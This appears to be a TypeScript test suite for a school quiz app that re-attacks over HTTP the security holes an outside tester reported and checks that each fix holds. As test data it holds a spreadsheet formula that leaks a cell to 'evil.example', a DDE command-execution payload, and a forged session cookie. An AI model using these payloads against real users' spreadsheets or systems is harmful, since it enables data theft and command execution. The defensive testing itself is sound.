// The holes an outside tester found (issue 12), each attacked again over HTTP as they attacked
// it: due dates, a forged session copy, sessions after a new password, batches, another
// teacher's live set, spreadsheet formulas, the roster's email domain, join-code guessing,
// development origins, other teachers' results and imported question files in practice.
// Sign-up, sign-in limits and proxies are in accounts.test.ts; answer keys in answer-key.test.ts.
import { parse } from "csv-parse/sync";
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from "vitest";
import { createAuth, PLACEHOLDER_EMAIL_DOMAIN, SESSION_CACHE_SECONDS } from "./auth";
import { JOIN_CODE_THROTTLE } from "./router/classes";
import {
  serveApi,
  serveApiTestEnv,
  TEST_ORIGIN,
  TEST_SECRET,
  type ApiTestEnv,
  type TestServer,
} from "./testing";
import {
  apiClient,
  closeServer,
  cookieFrom,
  postJson,
  settle,
  signIn,
  signInDemoCallers,
  type ApiClient,
} from "./testing-http";

let env: ApiTestEnv;
let server: TestServer;
const servers: TestServer[] = [];
let teacher: ApiClient;
let teacherCookie: string;
let otherTeacher: ApiClient;
let articleId: string;

beforeAll(async () => {
  ({ env, server } = await serveApiTestEnv());
  ({ teacher, teacherCookie, otherTeacher } = await signInDemoCallers(server.url));
  articleId = (await teacher.articles.list.query())[0]!.id;
});
afterAll(async () => {
  for (const s of [server, ...servers]) await closeServer(s);
  await env?.close();
});
afterEach(() => {
  vi.useRealTimers();
});

let counter = 0;
/** A new student (signed up over HTTP, in the demo class) and their client. */
async function newStudent(name = "New Student"): Promise<{ client: ApiClient; id: string }> {
  const username = `pupil${++counter}${Date.now() % 10_000}`;
  const response = await postJson(server.url, "/api/auth/sign-up/email", {
    name,
    username,
    password: "learn-something-1",
  });
  expect(response.status, await response.clone().text()).toBe(200);
  const client = apiClient(server.url, cookieFrom(response));
  await client.classes.join.mutate({ joinCode: "NEWS24" });
  return { client, id: (await env.userByUsername(username)).id };
}

/** An assignment of `count` questions in the demo class. */
async function assignment(options: {
  count?: number;
  dueInMs?: number | null;
  feedback?: "immediately" | "after_submit" | "after_due";
}) {
  const set = await teacher.sets.createFromMix.mutate({
    title: `Set ${++counter}`,
    articleId,
    count: options.count ?? 3,
    types: { true_false: options.count ?? 3 },
  });
  const created = await teacher.assignments.create.mutate({
    classId: "seed-class",
    setId: set.id,
    feedback: options.feedback ?? "immediately",
    attemptsAllowed: null,
    dueAt:
      options.dueInMs === null
        ? null
        : new Date(env.clock.now.getTime() + (options.dueInMs ?? 3_600_000)),
  });
  return { ...created, questionIds: set.questionIds };
}

const code = (outcome: Awaited<ReturnType<typeof settle>>) => (outcome.ok ? "data" : outcome.code);

describe("item 4: the due date closes an attempt that was open at the deadline", () => {
  it("refuses new answers after the due date, keeps a retry's result, and finishes at the deadline", async () => {
    const { client: student } = await newStudent();
    const { id: assignmentId, dueAt } = await assignment({ count: 3, dueInMs: 3_600_000 });
    const { attemptId } = await student.attempts.start.mutate({ assignmentId });
    const [first, second] = (await student.attempts.get.query({ attemptId })).questions;
    const answer = (questionId: string, key: string) =>
      student.attempts.submitAnswer.mutate({
        attemptId,
        questionId,
        idempotencyKey: key,
        response: { type: "true_false", value: true },
        timeTakenMs: 1000,
      });
    await answer(first!.id, "in-time-0001");
    const saved = env.clock.now;
    try {
      env.clock.now = new Date(dueAt!.getTime() + 60_000);
      const late = await settle(answer(second!.id, "too-late-0001"));
      expect(late.ok ? "data" : [late.code, late.message]).toEqual([
        "PRECONDITION_FAILED",
        "this assignment is closed: its due date has passed",
      ]);
      // A retry of the answer sent in time gets its result again.
      expect(await answer(first!.id, "in-time-0001")).toMatchObject({ duplicate: true });
      expect(await env.db.answer.count({ where: { attemptId } })).toBe(1);
      const done = await student.attempts.finish.mutate({ attemptId });
      expect(done).toMatchObject({ questionCount: 3 });
      const row = await env.db.attempt.findUniqueOrThrow({ where: { id: attemptId } });
      expect(row).toMatchObject({ status: "submitted", submittedAt: dueAt });
    } finally {
      env.clock.now = saved;
    }
  });
});

describe("item 5: the session memo trusts only what better-auth verified", () => {
  it("forgets a signed-out session though a forged session_data cookie claims the year 2100", async () => {
    vi.useFakeTimers({ toFake: ["Date"], now: Date.now() });
    const cookie = await signIn(server.url, { username: "dara", password: "learn-studykit" });
    const user = await env.userByUsername("dara");
    // A copy better-auth never reads (this server's cookies have no __Secure- prefix), placed
    // first, with an expiry far away.
    const forged = Buffer.from(
      JSON.stringify({
        session: { session: { expiresAt: "2100-01-01T00:00:00.000Z" }, user: {} },
        expiresAt: Date.UTC(2100, 0, 1),
        signature: "forged",
      }),
    ).toString("base64url");
    const crafted = `__Secure-better-auth.session_data=${forged}; ${cookie}`;
    const client = apiClient(server.url, crafted);
    expect(await client.account.me.query()).toMatchObject({ username: "dara" });
    // Signed out (elsewhere): the session's row is gone.
    await env.db.session.deleteMany({ where: { userId: user.id } });
    // Past the signed copy's own expiry, nothing vouches for the session any more.
    vi.setSystemTime(Date.now() + (SESSION_CACHE_SECONDS + 60) * 1000);
    expect(await client.account.me.query()).toBeNull();
    const progress = await settle(client.progress.mine.query());
    expect(code(progress)).toBe("UNAUTHORIZED");
  });
});

describe("item 6: a new password ends every other session", () => {
  it("signs out the device that used the one-time password, and keeps the one that changed it", async () => {
    vi.useFakeTimers({ toFake: ["Date"], now: Date.now() });
    const { students } = await teacher.classes.addStudents.mutate({
      classId: "seed-class",
      names: ["Printed Sheet"],
    });
    const { username, oneTimePassword } = students[0]!;
    // Someone read the printed sheet and signed in first.
    const snooper = await signIn(server.url, { username, password: oneTimePassword });
    const jar = { cookie: await signIn(server.url, { username, password: oneTimePassword }) };
    const owner = apiClient(server.url, jar);
    await owner.account.completeFirstSignIn.mutate({
      currentPassword: oneTimePassword,
      newPassword: "only-i-know-this",
    });
    expect(await owner.account.me.query()).toMatchObject({ username, mustChangePassword: false });
    expect((await owner.classes.mine.query()).map((c) => c.id)).toEqual(["seed-class"]);
    const tokenOnly = snooper
      .split("; ")
      .filter((c) => c.includes("session_token"))
      .join("; ");
    expect(await apiClient(server.url, tokenOnly).account.me.query()).toBeNull();
    // The snooper's signed copy lapses within the cookie cache's few minutes, then nothing.
    vi.setSystemTime(Date.now() + (SESSION_CACHE_SECONDS + 60) * 1000);
    expect(await apiClient(server.url, snooper).account.me.query()).toBeNull();
    expect(await owner.account.me.query()).toMatchObject({ username });
  });

  it("ends other sessions on better-auth's own change-password even when asked not to", async () => {
    const other = await signIn(server.url, { username: "eli", password: "learn-studykit" });
    const mine = await signIn(server.url, { username: "eli", password: "learn-studykit" });
    const response = await fetch(`${server.url}/api/auth/change-password`, {
      method: "POST",
      headers: { "content-type": "application/json", cookie: mine, origin: TEST_ORIGIN },
      body: JSON.stringify({
        currentPassword: "learn-studykit",
        newPassword: "eli-new-password",
        revokeOtherSessions: false,
      }),
    });
    expect(response.status, await response.clone().text()).toBe(200);
    const token = (c: string) => c.split("; ").find((p) => p.includes("session_token"))!;
    expect(await apiClient(server.url, token(other)).account.me.query()).toBeNull();
    expect(await apiClient(server.url, cookieFrom(response)).account.me.query()).toMatchObject({
      username: "eli",
    });
  });
});

describe("item 8: one request, a bounded amount of work", () => {
  it("refuses a batch of more than 20 calls, whole, with a clear error", async () => {
    const cookie = await signIn(server.url, { username: "amira", password: "learn-studykit" });
    const batch = (n: number, path: string) =>
      `${server.url}/api/trpc/${Array.from({ length: n }, () => path).join(",")}?batch=1`;
    const input = (n: number, value: unknown) =>
      JSON.stringify(Object.fromEntries(Array.from({ length: n }, (_, i) => [i, value])));
    const ok = await fetch(
      `${batch(20, "account.me")}&input=${encodeURIComponent(input(20, {}))}`,
      {
        headers: { cookie },
      },
    );
    expect(ok.status).toBe(200);
    const big = await fetch(
      `${batch(100, "progress.mine")}&input=${encodeURIComponent(input(100, {}))}`,
      { headers: { cookie } },
    );
    expect(big.status).toBe(400);
    expect(JSON.stringify(await big.json())).toContain("Batch call exceeds maximum size");
    const attempts = await env.db.attempt.count();
    const posted = await fetch(batch(300, "attempts.practice"), {
      method: "POST",
      headers: { "content-type": "application/json", cookie },
      body: input(300, { json: { articleId, count: 1 } }),
    });
    expect(posted.status).toBe(400);
    expect(await env.db.attempt.count()).toBe(attempts);
  });
});

describe("item 9: another teacher's live assignment is not rewritten under them", () => {
  it("refuses to edit, disable, reject or swap a question in another teacher's assignment", async () => {
    // The other teacher assigns a set from the demo teacher's article to their own class.
    const cls = await otherTeacher.classes.create.mutate({ name: "Year 9 Civics" });
    const set = await otherTeacher.sets.createFromMix.mutate({
      title: "Borrowed questions",
      articleId,
      count: 2,
      types: { multiple_choice: 2 },
    });
    await otherTeacher.assignments.create.mutate({ classId: cls.id, setId: set.id });
    const questionId = set.questionIds[0]!;
    const before = await env.db.question.findUniqueOrThrow({ where: { id: questionId } });
    const attemptsAt = [
      teacher.articles.editQuestion.mutate({ questionId, prompt: "Which answer is now right?" }),
      teacher.articles.setQuestionDisabled.mutate({ questionId, disabled: true }),
      teacher.review.setStatus.mutate({ questionIds: [questionId], status: "rejected" }),
      teacher.review.swapDistractor.mutate({ questionId, replace: "x", with: "y" }),
    ];
    for (const outcome of await Promise.all(attemptsAt.map(settle))) {
      expect(outcome.ok ? "data" : [outcome.code, outcome.message]).toEqual([
        "CONFLICT",
        "another teacher's assignment uses this question: it cannot be changed while that assignment is live",
      ]);
    }
    expect(await env.db.question.findUniqueOrThrow({ where: { id: questionId } })).toEqual(before);
    // A question no one else has assigned is still the editor's to change.
    const free = (await teacher.articles.bank.query({ articleId, type: "true_false" })).find(
      (q) => !set.questionIds.includes(q.id),
    )!;
    expect(
      (await teacher.articles.editQuestion.mutate({ questionId: free.id, difficulty: "hard" }))
        .question.difficulty,
    ).toBe("hard");
  });
});

describe("item 10: the results CSV opens as text in a spreadsheet", () => {
  it("escapes a student's name that is a formula", async () => {
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    const { client, id } = await newStudent();
    const { id: assignmentId } = await assignment({ count: 1, dueInMs: null });
    await client.attempts.start.mutate({ assignmentId });
    await env.db.user.update({ where: { id }, data: { name: evil } });
    const { csv } = await teacher.dashboard.exportCsv.query({ classId: "seed-class" });
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    const names = rows.map((r) => r.student!);
    expect(names).toContain(`'${evil}`);
    expect(names.filter((n) => /^[=+\-@\t\r]/.test(n))).toEqual([]);

    const { csv: roster } = await teacher.classes.addStudents.mutate({
      classId: "seed-class",
      names: ["@SUM(1+1)*cmd|' /C calc'!A0"],
    });
    const rosterRows = parse(roster, { columns: true }) as Record<string, string>[];
    expect(rosterRows[0]!.name).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
  });
});

describe("item 11: the roster's placeholder email domain", () => {
  it("is refused at sign-up, and an address already there does not break adding students", async () => {
    const taken = await postJson(server.url, "/api/auth/sign-up/email", {
      name: "Squatter",
      username: "squatter",
      email: `ruthm@${PLACEHOLDER_EMAIL_DOMAIN}`,
      password: "squat-squat-1",
    });
    expect(taken.status).toBe(400);
    expect(await taken.json()).toMatchObject({
      message: `addresses at ${PLACEHOLDER_EMAIL_DOMAIN} are reserved for students' rosters`,
    });
    // One made before sign-up refused them: the roster steps around it.
    await env.db.user.create({
      data: {
        id: "squatter-before",
        name: "Old Squatter",
        username: "oldsquatter",
        email: `ruthm@${PLACEHOLDER_EMAIL_DOMAIN}`,
        role: "student",
      },
    });
    const response = await postJson(
      server.url,
      "/api/trpc/classes.addStudents",
      { json: { classId: "seed-class", names: ["Ruth Mensah"] } },
      { cookie: teacherCookie },
    );
    const text = await response.text();
    expect(response.status, text).toBe(200);
    expect(text).not.toMatch(/Unique constraint|prisma/i);
    expect(JSON.parse(text).result.data.json.students[0].username).toBe("ruthm2");
  });
});

describe("item 12: join codes cannot be guessed at speed", () => {
  it("makes each wrong code after the first few wait longer, for the right code too", async () => {
    const { client } = await newStudent();
    const tries: string[] = [];
    for (let i = 0; i < 8; i++) {
      tries.push(code(await settle(client.classes.join.mutate({ joinCode: `ZZZZ${i}A` }))));
    }
    const free = JOIN_CODE_THROTTLE.student.freeFailures;
    expect(tries).toEqual([
      ...Array(free + 1).fill("NOT_FOUND"),
      ...Array(8 - free - 1).fill("TOO_MANY_REQUESTS"),
    ]);
    const waiting = await settle(client.classes.join.mutate({ joinCode: "NEWS24" }));
    expect(waiting.ok ? "data" : [waiting.httpStatus, waiting.message]).toEqual([
      429,
      "too many wrong join codes: wait 1 second and try again",
    ]);
    env.clock.now = new Date(env.clock.now.getTime() + 1000);
    expect((await client.classes.join.mutate({ joinCode: "NEWS24" })).id).toBe("seed-class");
  });
});

describe("item 14: development origins are trusted only in development", () => {
  // With a cookie, as a page on that origin would send it (better-auth checks origins then).
  const signInFrom = (url: string, origin: string, callbackURL?: string) =>
    fetch(`${url}/api/auth/sign-in/username`, {
      method: "POST",
      headers: {
        "content-type": "application/json",
        origin,
        cookie: "__Secure-better-auth.session_token=left-over",
      },
      body: JSON.stringify({
        username: "chen",
        password: "learn-studykit",
        ...(callbackURL ? { callbackURL } : {}),
      }),
    });
  const serve = async (development: boolean) => {
    const auth = createAuth({
      db: env.db,
      engine: "sqlite",
      secret: TEST_SECRET,
      baseURL: "https://studykit.school.example",
      secureCookies: true,
      development,
      rateLimit: false,
    });
    const s = await serveApi({ db: env.db, auth, now: () => env.clock.now });
    servers.push(s);
    return s;
  };

  it("refuses localhost:3000 as an origin and as a callbackURL in production", async () => {
    const production = await serve(false);
    expect((await signInFrom(production.url, "http://localhost:3000")).status).toBe(403);
    expect((await signInFrom(production.url, "http://127.0.0.1:3000")).status).toBe(403);
    const callback = await signInFrom(
      production.url,
      "https://studykit.school.example",
      "http://localhost:3000/steal",
    );
    expect(callback.status).toBe(403);
    expect(
      (await signInFrom(production.url, "https://studykit.school.example", "/student")).status,
    ).toBe(200);
  });

  it("accepts them in development", async () => {
    const development = await serve(true);
    expect((await signInFrom(development.url, "http://localhost:3000")).status).toBe(200);
  });
});

describe("item 16: a teacher sees only their own classes' results", () => {
  it("leaves the student's attempt in another teacher's class out of progress.student", async () => {
    const { client: student, id: studentId } = await newStudent("Two Classes");
    const view = () => teacher.progress.student.query({ classId: "seed-class", studentId });
    const before = await view();
    // The student also belongs to another teacher's class, and does its assignment.
    const cls = await otherTeacher.classes.create.mutate({ name: "Year 10 History" });
    await student.classes.join.mutate({ joinCode: cls.joinCode });
    const set = await otherTeacher.sets.createFromMix.mutate({
      title: "History check",
      articleId,
      count: 2,
      types: { true_false: 2 },
    });
    const { id: assignmentId } = await otherTeacher.assignments.create.mutate({
      classId: cls.id,
      setId: set.id,
      feedback: "immediately",
    });
    const { attemptId } = await student.attempts.start.mutate({ assignmentId });
    for (const q of (await student.attempts.get.query({ attemptId })).questions) {
      await student.attempts.submitAnswer.mutate({
        attemptId,
        questionId: q.id,
        idempotencyKey: `history-${q.id}`,
        response: { type: "true_false", value: true },
        timeTakenMs: 500,
      });
    }
    await student.attempts.finish.mutate({ attemptId });
    // The other teacher's result shows in the student's own progress …
    const own = await student.progress.mine.query();
    expect(own.weeks.reduce((n, w) => n + w.attempts, 0)).toBe(1);
    // … but not to this teacher.
    const after = await view();
    expect(after.weeks).toEqual(before.weeks);
    expect(after.facts).toEqual(before.facts);
    expect(after.mastery).toEqual(before.mastery);
  });
});

describe("item 3: practice serves only articles a student may practise", () => {
  it("refuses another teacher's imported question file", async () => {
    const imported = await otherTeacher.exchange.importQuestions.mutate({
      filename: "capitals.gift",
      content: "::Capital::Which city is the capital of Pakistan? {=Islamabad ~Karachi ~Lahore}\n",
    });
    const { client } = await newStudent();
    const outcome = await settle(
      client.attempts.practice.mutate({ articleId: imported.articleId, count: 5 }),
    );
    expect(code(outcome)).toBe("NOT_FOUND");
    expect((await client.articles.list.query()).map((a) => a.id)).not.toContain(imported.articleId);
  });
});
